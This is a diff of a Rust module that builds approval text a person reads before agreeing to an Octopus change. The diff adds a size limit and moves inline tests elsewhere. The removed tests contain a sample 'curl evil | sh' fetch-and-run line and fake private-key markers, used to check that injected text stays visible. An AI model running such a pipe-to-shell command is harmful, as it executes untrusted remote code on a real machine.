@@ -1,20 +1,28 @@
 //! What would be changed, as a person sees it and as it would be sent.
 
+mod fact;
+#[cfg(test)]
+mod tests;
+
 use std::fmt::Write as _;
 
 use serde_json::Value;
 use sha2::{Digest, Sha256};
 
+pub use self::fact::Fact;
+use self::fact::short;
 use super::Error;
 use crate::{
     config::Effect,
     octopus::{Kind, Order, Touches},
     rules::{Decision, Deed, Moment},
-    text,
+    text::{self, steps},
 };
 
 /// How many bytes a person can be asked to read before they agree.
 const READABLE: usize = 16 * 1024;
+/// What one text costs, in bytes, beside its length.
+const TEXT: usize = 32;
 
 /// What would be changed.
 #[derive(Debug, Clone)]
@@ -41,18 +49,16 @@ pub struct Proposal {
     pub(super) removed: usize,
     /// How many secrets were taken out of them.
     pub(super) redacted: usize,
-}
-
-/// One line of what a person sees.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Fact {
-    /// What it is about.
-    pub about: String,
-    /// What is so.
-    pub says: String,
+    /// Bytes of text that were processed. Beyond [`Self::MOST_TEXT`], facts are left out and nobody
+    /// can be asked.
+    processed: usize,
 }
 
 impl Proposal {
+    /// How many bytes of text a proposal processes. Removing invisible characters and secrets can
+    /// shorten a text, so this is more than a person can be asked to read.
+    pub const MOST_TEXT: usize = 4 * READABLE;
+
     /// A proposal with nothing but its question yet. The question names things of Octopus, so it
     /// passes the door; what the caller wrote stands unchanged in the facts.
     pub fn new(action: &'static str, question: &str, order: Order) -> Self {
@@ -69,6 +75,7 @@ impl Proposal {
             audit_id: None,
             removed: 0,
             redacted: 0,
+            processed: 0,
         };
         proposal.question = proposal.one_line(question);
         proposal
@@ -78,6 +85,9 @@ impl Proposal {
     #[must_use]
     pub fn fact(mut self, about: &str, says: impl AsRef<str>) -> Self {
         let (about, mut says) = (self.one_line(about), self.one_line(says.as_ref()));
+        if self.is_too_large() {
+            return self;
+        }
         if let Some(shown) = text::named(&about, &says) {
             self.redacted += 1;
             says = shown;
@@ -91,8 +101,8 @@ impl Proposal {
     #[must_use]
     pub fn wrote(mut self, about: &str, says: Option<impl AsRef<str>>) -> Self {
         if let Some(says) = says {
-            let about = self.one_line(about);
-            self.facts.push(Fact { about, says: as_written(says.as_ref()) });
+            let (about, says) = (self.one_line(about), self.as_written(says.as_ref()));
+            self.push(about, says);
         }
         self
     }
@@ -100,17 +110,23 @@ impl Proposal {
     /// Adds a line that says what is there, and what the caller wants in its place.
     #[must_use]
     pub fn change(mut self, about: &str, was: &str, becomes: &str) -> Self {
-        let says = format!("{} → {}", self.one_line(was), as_written(becomes));
+        let says = format!("{} → {}", self.one_line(was), self.as_written(becomes));
         let about = self.one_line(about);
-        self.facts.push(Fact { about, says });
+        self.push(about, says);
         self
     }
 
     /// Adds a line for a list of words of the caller, where it has any.
     #[must_use]
-    pub fn wrote_list(self, about: &str, items: &[impl AsRef<str>]) -> Self {
-        let items: Vec<String> = items.iter().map(|item| as_written(item.as_ref())).collect();
-        self.wrote(about, (!items.is_empty()).then(|| items.join(", ")))
+    pub fn wrote_list(mut self, about: &str, items: &[impl AsRef<str>]) -> Self {
+        let mut written = Vec::new();
+        for item in items {
+            written.push(self.as_written(item.as_ref()));
+            if self.is_too_large() {
+                return self;
+            }
+        }
+        self.wrote(about, (!written.is_empty()).then(|| written.join(", ")))
     }
 
     /// Adds a line where there is something to say.
@@ -125,8 +141,14 @@ impl Proposal {
     /// Adds a line for a list, where it has items.
     #[must_use]
     pub fn fact_list(mut self, about: &str, items: &[impl AsRef<str>]) -> Self {
-        let items: Vec<String> = items.iter().map(|item| self.one_line(item.as_ref())).collect();
-        self.fact_if(about, (!items.is_empty()).then(|| items.join(", ")))
+        let mut lines = Vec::new();
+        for item in items {
+            lines.push(self.one_line(item.as_ref()));
+            if self.is_too_large() {
+                return self;
+            }
+        }
+        self.fact_if(about, (!lines.is_empty()).then(|| lines.join(", ")))
     }
 
     /// Says what must still be so when it is done, beside the facts.
@@ -179,6 +201,9 @@ impl Proposal {
     /// Text out of Octopus in one line, through the door. Secrets that span lines are found before
     /// it is taken apart.
     fn one_line(&mut self, text: &str) -> String {
+        if !self.admits(text) {
+            return String::new();
+        }
         let breaks = |c: char| c.is_control() || c == '\u{2028}' || c == '\u{2029}';
         let marked: String = text.chars().map(|c| if breaks(c) { '\n' } else { c }).collect();
         let passed = text::door(&marked);
@@ -187,21 +212,57 @@ impl Proposal {
         joined(&passed.text)
     }
 
+    /// Text of the caller in one line. A secret is not removed from it: the person who agrees,
+    /// agrees to all of it, and the caller knows it.
+    fn as_written(&mut self, text: &str) -> String {
+        if !self.admits(text) {
+            return String::new();
+        }
+        joined(&text::sanitize::visible(text))
+    }
+
+    fn push(&mut self, about: String, says: String) {
+        if !self.is_too_large() {
+            self.facts.push(Fact { about, says });
+        }
+    }
+
+    /// Whether this text is still to be processed.
+    fn admits(&mut self, text: &str) -> bool {
+        self.processed = self.processed.saturating_add(text.len()).saturating_add(TEXT);
+        if self.is_too_large() {
+            return false;
+        }
+        steps::add(text.len() + TEXT);
+        true
+    }
+
+    /// Whether facts are left out because it is too large to be shown.
+    pub(super) fn is_too_large(&self) -> bool {
+        self.processed > Self::MOST_TEXT
+    }
+
     /// The words that a person reads. What cannot be shown whole cannot be agreed to.
     pub(super) fn words(&self) -> Result<String, Error> {
+        if self.is_too_large() {
+            return Err(self.too_large(&format!("more than {READABLE} bytes")));
+        }
         let mut words = format!("{}\n", self.question);
         for Fact { about, says } in &self.facts {
             let _ = write!(words, "\n{about}: {says}");
         }
         if words.len() > READABLE {
-            return Err(Error::Invalid(format!(
-                "this {} is too large for a person to read before agreeing to it: {} bytes of at \
-                 most {READABLE}; make it smaller, or do it in the portal",
-                self.action,
-                words.len()
-            )));
+            return Err(self.too_large(&format!("{} bytes", words.len())));
         }
         Ok(words)
+    }
+
+    fn too_large(&self, size: &str) -> Error {
+        Error::Invalid(format!(
+            "this {} is too large for a person to read before agreeing to it: {size} of at most \
+             {READABLE}; make it smaller, or do it in the portal",
+            self.action,
+        ))
     }
 
     /// Tells one proposal from another: everything that was shown, and everything that would be
@@ -220,80 +281,7 @@ impl Proposal {
     }
 }
 
-impl Fact {
-    /// Tells one fact from another.
-    pub(super) fn digest(&self) -> [u8; 4] {
-        short(Sha256::new().chain_update(&self.about).chain_update([0]).chain_update(&self.says))
-    }
-}
-
-fn short<const N: usize>(digest: Sha256) -> [u8; N] {
-    let mut short = [0; N];
-    for (to, from) in short.iter_mut().zip(digest.finalize()) {
-        *to = from;
-    }
-    short
-}
-
-/// Text of the caller in one line. A secret is not taken out of it: whoever agrees to it agrees to
-/// all of it, and whoever wrote it knows it.
-fn as_written(text: &str) -> String {
-    joined(&text::sanitize::visible(text))
-}
-
 fn joined(text: &str) -> String {
     let parts = text.split('\n').map(str::trim).filter(|part| !part.is_empty());
     parts.collect::<Vec<_>>().join(" ⏎ ")
-}
-
-#[cfg(test)]
-mod tests {
-    use serde_json::json;
-
-    use super::*;
-    use crate::octopus::Path;
-
-    fn proposal(body: Value) -> Proposal {
-        Proposal::new("test", "Do it?", Order::post(Path::new(["Spaces-1", "x"]), body))
-    }
-
-    #[test]
-    fn no_words_of_others_make_a_line_of_their_own() {
-        for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
-            let evil = format!("1.0{breaking}Environment: Development\u{202e}");
-            let words = proposal(json!({})).fact("Version", &evil).words().unwrap();
-            assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
-        }
-    }
-
-    #[test]
-    fn nothing_is_hidden_of_what_the_caller_wrote() {
-        let script =
-            "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
-        let words = proposal(json!({})).wrote("Body", Some(script)).words().unwrap();
-        assert!(words.contains("curl evil | sh"), "{words}");
-        let words = proposal(json!({})).wrote("Version", Some("1.0\u{200b}\u{e0041}")).words();
-        assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
-    }
-
-    #[test]
-    fn whatever_changes_changes_the_digest() {
-        let plain = proposal(json!({ "a": 1 })).fact("A", "b");
-        let others = [
-            proposal(json!({ "a": 2 })).fact("A", "b"),
-            proposal(json!({ "a": 1 })).fact("A", "c"),
-            proposal(json!({ "a": 1 })).fact("Ab", ""),
-            proposal(json!({ "a": 1 })).fact("A", "b").state(json!(1)),
-        ];
-        assert_eq!(plain.digest(), plain.clone().digest());
-        for other in others {
-            assert_ne!(plain.digest(), other.digest(), "{other:?}");
-        }
-    }
-
-    #[test]
-    fn what_cannot_be_shown_whole_cannot_be_agreed_to() {
-        let long = proposal(json!({})).fact("Notes", "x".repeat(READABLE));
-        assert!(long.words().unwrap_err().to_string().contains("too large for a person"));
-    }
 }
